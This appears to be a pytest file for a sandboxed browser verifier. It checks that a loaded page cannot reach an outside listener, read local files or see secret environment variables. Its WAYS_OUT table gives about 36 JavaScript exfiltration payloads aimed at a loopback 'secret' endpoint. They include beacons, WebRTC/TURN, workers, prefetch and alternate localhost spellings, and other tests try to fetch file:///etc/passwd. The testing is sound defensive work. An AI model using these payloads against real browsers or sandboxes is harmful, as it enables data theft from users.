"""A page that tries every way out: a listener outside hears nothing, nothing of ours can be read."""

import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import psutil
import pytest

from orchestrator.records import Status, Verdict
from orchestrator.records.site import Site
from orchestrator.runtime.processes import descendants, is_alive
from orchestrator.verify.browser_process.child_process import ChildProcess
from orchestrator.verify.plan.check_types import Plan
from orchestrator.verify.verifier import Verifier
from tests.verify.corpus.case import page


class Listener:
    """Listens on one loopback port, TCP and UDP, and keeps what it hears."""

    def __init__(self) -> None:
        self.heard: list[bytes] = []
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._tcp.getsockname()[1]
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", self.port))
        for loop in (self._accept, self._receive):
            threading.Thread(target=loop, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self._tcp.accept()
            except OSError:
                return
            self.heard.append(b"tcp")
            connection.close()

    def _receive(self) -> None:
        while True:
            try:
                self.heard.append(b"udp " + self._udp.recv(2000))
            except OSError:
                return

    def close(self) -> None:
        self._tcp.close()
        self._udp.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    outside = Listener()
    yield outside
    outside.close()


WAYS_OUT = {
    "fetch": "fetch(OUT).catch(() => {})",
    "fetch by name": "fetch(OUT.replace('127.0.0.1', 'localhost')).catch(() => {})",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('POST', OUT); x.send('s')",
    "beacon": "navigator.sendBeacon(OUT, 'secret')",
    "image": "new Image().src = OUT",
    "style": "add(`<link rel=stylesheet href='${OUT}'>`)",
    "frame": "add(`<iframe title=f src='${OUT}'></iframe>`)",
    "worker": "new Worker(code(`fetch('${OUT}').catch(() => {}); try { importScripts('${OUT}') } catch {}`))",
    "shared worker": "new SharedWorker(code(`fetch('${OUT}').catch(() => {})`))",
    "service worker": "navigator.serviceWorker.register('sw.js').catch(() => {})",
    "WebSocket": "new WebSocket(OUT.replace('http', 'ws'))",
    "EventSource": "new EventSource(OUT)",
    "WebRTC": "const c = new RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:${PORT}`}]});"
    "c.createDataChannel('d'); c.createOffer().then(o => c.setLocalDescription(o))",
    "popup": "window.open(OUT)",
    "popup of a click": "follow({target: '_blank'})",
    "prefetch": "for (const rel of ['dns-prefetch', 'preconnect', 'prefetch'])"
    "add(`<link rel=${rel} href='${OUT}'>`)",
    "speculation": "const s = document.createElement('script'); s.type = 'speculationrules';"
    "s.text = JSON.stringify({prefetch: [{urls: [OUT]}], prerender: [{urls: [OUT]}]});"
    "document.head.append(s)",
    "form": "add(`<form action='${OUT}' method=post target=_blank></form>`); document.forms[0].submit()",
    "download": "follow({download: 'x'})",
    "ping": "follow({href: '#x', ping: OUT})",
    "video": "add(`<video src='${OUT}' autoplay muted></video>`)",
    "import and address of a style": "add(`<style>@import url(${OUT}); main {mask: url(${OUT})}</style>`)",
    "font": "new FontFace('F', `url(${OUT})`).load().catch(() => {})",
    "object and embed": "add(`<object data='${OUT}'></object><embed src='${OUT}'>`)",
    "other pictures": "add(`<img srcset='${OUT} 1x' alt=x><svg><image href='${OUT}'/></svg>`)",
    "module": "import(OUT).catch(() => {})",
    "socket of a worker": "new Worker(code(`new WebSocket('${OUT}'.replace('http', 'ws'))`))",
    "frame of a blob": "add(`<iframe title=f src='${URL.createObjectURL(new Blob([`<img src=${OUT}>"
    "<script>new WebSocket('${OUT}'.replace('http', 'ws'))<\\/script>`], {type: 'text/html'}))}'></iframe>`)",
    "frame of data": "add(`<iframe title=f src=\"data:text/html,<img src='${OUT}'>\"></iframe>`)",
    "WebTransport": "new WebTransport(OUT.replace('http', 'https')).closed.catch(() => {})",
    "relay over TCP": "const c = new RTCPeerConnection({iceTransportPolicy: 'relay', iceServers: [{"
    "username: 'u', credential: 'c',"
    "urls: [`turn:127.0.0.1:${PORT}?transport=tcp`, `turn:localhost:${PORT}`]}]});"
    "c.createDataChannel('d'); c.createOffer().then(o => c.setLocalDescription(o))",
    "other names of this machine": "for (const name of ['localhost.localdomain', 'x.localhost', '0.0.0.0',"
    "'[::1]', '[::ffff:127.0.0.1]', '2130706433', '0x7f000001', '127.1', 'cdn.jsdelivr.net@127.0.0.1'])"
    "new Image().src = OUT.replace('127.0.0.1', name)",
    "last words": "addEventListener('pagehide', () => fetch(OUT, {keepalive: true})); location.href = '?x'",
    "refresh": "document.head.insertAdjacentHTML('beforeend',"
    "`<meta http-equiv=refresh content='0;url=${OUT}'>`)",
    "navigation": "navigation.navigate(OUT)",
    "leaving": "location.href = OUT",
}

TOOLS = """
const OUT = `http://127.0.0.1:${PORT}/secret`;
const add = (html) => document.body.insertAdjacentHTML('beforeend', html);
const code = (text) => URL.createObjectURL(new Blob([text]));
const follow = (fields) => {
  const a = Object.assign(document.createElement('a'), {href: OUT}, fields);
  document.body.append(a);
  a.click();
};
"""


def judge(verifier: Verifier, script: str, listener: Listener) -> Verdict:
    html = page(script=f"const PORT = {listener.port};{TOOLS}{script}")
    worker = f"fetch('http://127.0.0.1:{listener.port}')"
    files = {"index.html": html.encode(), "sw.js": worker.encode()}
    return verifier.verify(Site(files), Plan(checks=()))


@pytest.mark.parametrize("way", WAYS_OUT)
def test_nothing_gets_out(way: str, verifier: Verifier, listener: Listener) -> None:
    judge(verifier, WAYS_OUT[way], listener)
    assert listener.heard == []


def test_the_listener_would_hear(listener: Listener) -> None:
    with socket.create_connection(("127.0.0.1", listener.port)) as connection:
        connection.recv(1)
    assert listener.heard == [b"tcp"]


def test_files_of_this_machine_cannot_be_read(verifier: Verifier, listener: Listener) -> None:
    script = "fetch('file:///etc/passwd').then(() => { throw new Error('it was read') }, () => {})"
    verdict = judge(verifier, script, listener)
    assert [r.check for r in verdict.counted(Status.FAILED) if "it was read" in r.seen] == []


def test_a_dispatched_page_stays_on_its_own_address(verifier: Verifier, listener: Listener) -> None:
    verdict = judge(verifier, "location.href = 'file:///etc/passwd'", listener)
    assert "root:" not in verdict.model_dump_json()


@pytest.mark.usefixtures("browser_there")
def test_no_process_of_the_browser_has_a_secret_in_its_environment(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "the-key-of-the-house")
    with Verifier(online=False) as fresh:
        fresh.verify(Site({"index.html": page().encode()}), Plan(checks=()))
        assert fresh.browser._child is not None
        environments = [_environment(process) for process in family_of(fresh.browser._child)]
    assert sum(b"HOME=" in each for each in environments) >= 3
    assert [each for each in environments if b"the-key-of-the-house" in each] == []


@pytest.mark.usefixtures("browser_there")
def test_no_process_outlives_the_verifier() -> None:
    with Verifier(online=False) as fresh:
        fresh.verify(Site({"index.html": page().encode()}), Plan(checks=()))
        assert fresh.browser._child is not None
        family = family_of(fresh.browser._child)
    assert len(family) >= 3
    assert [process for process in family if is_alive(process)] == []


def family_of(child: ChildProcess) -> list[psutil.Process]:
    return [psutil.Process(child._process.pid), *descendants(child._process.pid)]


def _environment(process: psutil.Process) -> bytes:
    try:
        return Path(f"/proc/{process.pid}/environ").read_bytes()
    except (ProcessLookupError, FileNotFoundError):
        return b""
